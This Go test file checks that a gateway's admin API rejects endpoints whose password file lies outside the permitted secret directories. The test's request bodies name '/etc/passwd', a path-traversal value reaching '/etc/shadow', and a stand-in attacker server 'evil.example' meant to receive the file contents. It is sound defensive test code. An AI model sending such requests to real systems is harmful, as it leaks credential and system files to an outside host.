package gateway_test

import (
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/uagate/gateway/bridge/config"
)

// TestSecretFilesOnlyFromSecretDirs: through the running gateway's API, an
// endpoint whose password is to be read from a file outside the secret
// directories (gateway.secretsDir, /run/secrets, /etc/uagate/secrets) is
// refused with a problem naming them, and nothing changes: the admin role
// cannot have any readable file sent to a server of its choosing.
func TestSecretFilesOnlyFromSecretDirs(t *testing.T) {
	srv := startCounterSim(t, "", 0)
	c := standalone(srv.URL())
	c.HTTP = config.HTTP{}
	c.Sinks = config.Sinks{File: []config.FileSink{{Name: "f", Path: t.TempDir() + "/out.jsonl"}}}
	g := startGateway(t, "gateway.yaml", marshalConfig(t, c))
	base := "http://" + g.gw.Addrs().HTTP
	for _, file := range []string{"/etc/passwd", g.path, "/run/secrets/../../etc/shadow"} {
		body := `{"name":"exfil","url":"opc.tcp://evil.example:4840","identity":{"type":"username","username":"x","passwordFile":"` + file + `"}}`
		req, _ := http.NewRequest("POST", base+"/api/v1/endpoints", strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 400 || !strings.Contains(string(b), "outside the secret directories") {
			t.Errorf("passwordFile %s: %d %s", file, resp.StatusCode, b)
		}
	}
	for _, e := range g.gw.Config().Endpoints {
		if e.Name == "exfil" {
			t.Fatal("the endpoint was added")
		}
	}
}
